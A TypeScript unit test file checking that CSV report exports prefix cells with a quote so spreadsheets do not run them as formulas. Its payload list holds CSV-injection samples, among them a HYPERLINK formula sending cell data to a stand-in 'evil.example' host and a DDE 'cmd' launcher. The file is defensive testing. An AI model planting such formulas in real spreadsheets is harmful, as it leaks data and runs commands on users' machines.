import { describe, expect, it } from 'vitest';
import { reportCsv } from '../usecases/reports';
import { monthlyReportCsv, type MonthlyReport } from '../usecases/reportMonthly';

/** What a spreadsheet runs when a cell starts with it (OWASP CSV injection). */
const FORMULAS = [
  '=HYPERLINK("https://evil.example/?x="&A1,"Open")',
  '+1+cmd|" /C calc"!A0',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
];

/** The cells of a CSV line, quotes undone (enough for these lines: no embedded newlines). */
function cells(line: string): string[] {
  return [...line.matchAll(/("([^"]|"")*"|[^,]*)(,|$)/g)]
    .map((m) => m[1] as string)
    .slice(0, -1)
    .map((c) => (c.startsWith('"') ? c.slice(1, -1).replace(/""/g, '"') : c));
}

describe('CSV drill: exported cells never start a formula', () => {
  it.each(FORMULAS)('when a report cell holds %j, then the CSV cell is neutralised with a leading quote', (value) => {
    const csv = reportCsv({ name: 'x', columns: ['service', 'count'], rows: [{ service: value, count: 3 }] });
    const cell = cells(csv.split('\r\n')[1] ?? '')[0] ?? '';
    expect(cell.startsWith("'")).toBe(true);
    expect(cell.slice(1)).toBe(value);
  });

  it.each(FORMULAS)('when a UCC monthly row holds %j, then the CSV cell is neutralised', (value) => {
    const report: MonthlyReport = {
      name: 'ucc-monthly',
      month: '2025-06',
      title: { en: 'x' },
      form: { id: 'f', version: 1 },
      columns: ['applicant'],
      labels: { applicant: { en: 'Applicant' } },
      rows: [{ applicant: value }],
      summary: { columns: [], labels: {}, rows: [] },
    };
    const line = monthlyReportCsv(report, 'en').replace('\uFEFF', '').split('\r\n')[1] ?? '';
    expect(cells(line)[0]?.startsWith("'")).toBe(true);
  });

  it('when a cell is a number, even a negative one, then it stays a number', () => {
    const csv = reportCsv({ name: 'x', columns: ['a', 'b'], rows: [{ a: -5, b: 0.25 }] });
    expect(csv.split('\r\n')[1]).toBe('-5,0.25');
  });
});
